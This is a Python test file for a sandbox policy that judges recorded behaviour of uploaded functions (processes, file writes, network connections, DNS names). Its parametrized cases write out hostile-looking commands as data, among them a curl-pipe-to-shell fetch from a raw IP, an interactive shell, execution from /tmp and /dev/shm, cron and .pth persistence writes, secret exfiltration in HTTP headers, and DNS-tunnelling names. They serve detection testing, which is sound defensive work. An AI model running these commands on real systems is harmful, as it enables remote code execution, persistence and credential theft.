"""The detonation's policy (sless.validation.behaviour): which recorded behaviour is held.

Behaviour benign functions have too (a program started with an argument list, a named
host the spec does not declare and that got no canary) is a note; behaviour with no
ordinary place in a function is held; a canary reaching the sink is rejected. The cases
below are the ways malicious code does the held things, each next to the benign look-alike
that must stay a note.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest

from sless.validation.behaviour import judge
from sless.validation.canaries import make_canaries
from sless.validation.report import Finding, Verdict, strictest

CANARIES = make_canaries(("PAYMENTS_KEY",))


def _judge(
    trace: list[dict[str, Any]] | None = None,
    record: dict[str, Any] | None = None,
    egress: tuple[str, ...] = (),
    secrets: tuple[str, ...] = (),
) -> list[Finding]:
    record = record or {"names": [], "connections": []}
    return judge(record, trace or [], CANARIES, egress, secrets)


def _process(program: str, args: list[str], **extra: Any) -> dict[str, Any]:
    return {"kind": "process", "event": "subprocess.Popen", "program": program, "args": args,
            "cwd": "/code", **extra}  # fmt: skip


def _conn(host: str, data: bytes, port: int = 443) -> dict[str, Any]:
    return {"host": host, "port": port, "tls": False, "data": base64.b64encode(data).decode()}


@pytest.mark.parametrize(
    "event",
    [
        _process("/bin/sh", ["/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh"]),
        _process("sh", ["sh", "-i"]),
        {"kind": "process", "event": "child_process.execSync", "program": "id", "args": ["id"],
         "shell": True},
        _process("/usr/bin/python3", ["python3", "-c", "import time; time.sleep(9e9)"]),
        _process("node", ["node", "-e", "setInterval(()=>{},1e9)"]),
        _process("/tmp/.k", ["/tmp/.k"]),
        _process("/tmp/../tmp/upd", ["upd"]),
        _process("./agent", ["./agent"], cwd="/tmp/.svc"),
        _process("/dev/shm/x", ["x"]),
        _process("/bin/true", ["/bin/true"], detached=True),
        _process("nohup", ["nohup", "/usr/bin/git", "fetch"]),
        _process("/usr/bin/python3", ["python3", "/tmp/.cache/u.py"]),
        _process("node", ["node", "/dev/shm/x.js"]),
        _process("/usr/bin/env", ["env", "LC_ALL=C", "python3", "-c", "import os"]),
        _process("timeout", ["timeout", "5", "sh", "-c", "id"]),
        _process("nice", ["nice", "-n", "5", "/tmp/.k"]),
        _process("awk", ["awk", "BEGIN { system(\"id\") }"]),
        {"kind": "process", "event": "os.fork", "argv": ""},
        {"kind": "process", "event": "os.forkpty", "argv": ""},
        _process("", []),
    ],
    ids=lambda e: f"{e.get('event')}:{e.get('program', '')}:{' '.join(e.get('args', []))[:30]}",
)  # fmt: skip
def test_a_process_that_runs_text_downloads_or_hides_is_held(event: dict[str, Any]) -> None:
    findings = _judge([event])
    assert strictest(findings) is Verdict.REVIEW, findings
    assert findings[0].rule == "detonation-process"
    assert findings[0].evidence


@pytest.mark.parametrize(
    "event",
    [
        _process("git", ["git", "ls-remote", "--tags", "https://github.com/psf/requests.git"]),
        _process("/usr/bin/git", ["/usr/bin/git", "--version"]),
        _process("date", ["date", "+%Y-%m-%dT%H:%M:%S%z"]),
        _process("ffmpeg", ["ffmpeg", "-y", "-i", "/tmp/a.mp4", "/tmp/b.jpg"]),
        _process("bin/convert", ["bin/convert", "in.png"]),  # shipped in the upload
        _process("node", ["node", "/code/tools/render.js", "/tmp/input.json"]),
        _process("python3", ["python3", "-m", "json.tool", "/tmp/in.json"]),
    ],
)
def test_a_program_started_with_arguments_is_a_note(event: dict[str, Any]) -> None:
    findings = _judge([event])
    assert [f.rule for f in findings] == ["detonation-process"]
    assert findings[0].severity is Verdict.ALLOW
    assert findings[0].evidence


@pytest.mark.parametrize(
    ("path", "verdict"),
    [
        ("/tmp", Verdict.ALLOW),  # O_TMPFILE opens the directory itself
        ("/tmp/out.jpg", Verdict.ALLOW),
        ("/dev/null", Verdict.ALLOW),
        ("/tmp/../etc/cron.d/update", Verdict.REVIEW),
        ("/tmpfoo/x", Verdict.REVIEW),
        ("/etc/cron.d/update", Verdict.REVIEW),
        ("/tmp/.local/lib/python3.11/site-packages/hooks.pth", Verdict.REVIEW),
        ("/tmp/.bashrc", Verdict.REVIEW),
    ],
)
def test_writes_are_held_outside_scratch_space(path: str, verdict: Verdict) -> None:
    assert strictest(_judge([{"kind": "file_write", "path": path}])) is verdict


def test_an_undeclared_named_host_without_a_canary_is_a_note() -> None:
    record = {
        "names": ["api.frankfurter.app"],
        "connections": [_conn("api.frankfurter.app", b"GET /latest HTTP/1.1\r\n\r\n")],
    }
    findings = _judge(record=record)
    assert {f.rule for f in findings} == {"detonation-undeclared-host"}
    assert all(f.severity is Verdict.ALLOW and f.evidence for f in findings)


def test_a_raw_address_nobody_looked_up_is_held() -> None:
    record = {"names": [], "connections": [_conn("198.51.100.7", b"\x00\x01", port=4444)]}
    findings = _judge(record=record)
    assert strictest(findings) is Verdict.REVIEW
    assert findings[0].rule == "detonation-undeclared-egress"


def test_a_canary_to_an_undeclared_host_is_still_rejected() -> None:
    key = CANARIES.env["AWS_SECRET_ACCESS_KEY"]
    sent = f"HEAD / HTTP/1.1\r\nx-t: {key}\r\n\r\n".encode()
    record = {
        "names": ["cdn-metrics.example.io"],
        "connections": [_conn("cdn-metrics.example.io", sent)],
    }
    assert strictest(_judge(record=record)) is Verdict.REJECT


def test_a_declared_secret_to_its_declared_host_is_allowed_but_not_another() -> None:
    own = CANARIES.env["PAYMENTS_KEY"]
    other = CANARIES.env["GITHUB_TOKEN"]
    declared = {"egress": ("api.pay.example.com:443",), "secrets": ("PAYMENTS_KEY",)}
    sent = f"POST / HTTP/1.1\r\nauthorization: {own}\r\n\r\n".encode()
    record = {"names": ["api.pay.example.com"], "connections": [_conn("api.pay.example.com", sent)]}
    assert _judge(record=record, **declared) == []
    record["connections"].append(_conn("api.pay.example.com", f"GET /?t={other} HTTP/1.1".encode()))
    assert strictest(_judge(record=record, **declared)) is Verdict.REJECT


@pytest.mark.parametrize(
    "name",
    [
        # a canary transformed beyond base64/hex (XOR, encryption) in DNS labels: in
        # Kubernetes, DNS leaves the namespace whatever the egress
        "9f3a71c2e84b05d6a1f09e37c4b28d5e.t.example.org",
        "mzxw6ytboi2dkmrtgq3tsnzqgm4dcnrq.x.example.net",
        "k7q2x9v4m1n8b3c6z5w0p7r2t4y9u1i3o8e6a5s2d4f7.c.example.com",
    ],
)
def test_an_undeclared_name_that_carries_data_is_held(name: str) -> None:
    findings = _judge(record={"names": [name], "connections": []})
    assert strictest(findings) is Verdict.REVIEW, findings
    assert findings[0].rule == "detonation-dns-data"


@pytest.mark.parametrize(
    "name",
    [
        "api.frankfurter.app",
        "my-company-production-logs-bucket-2024.s3.eu-west-1.amazonaws.com",
        "d1a2b3c4d5e6f7.cloudfront.net",
        "abcdefghijklmnopqrst.supabase.co",
        "ec2-54-12-34-56.compute-1.amazonaws.com",
    ],
)
def test_an_undeclared_ordinary_name_is_a_note(name: str) -> None:
    findings = _judge(record={"names": [name], "connections": []})
    assert [f.severity for f in findings] == [Verdict.ALLOW], findings
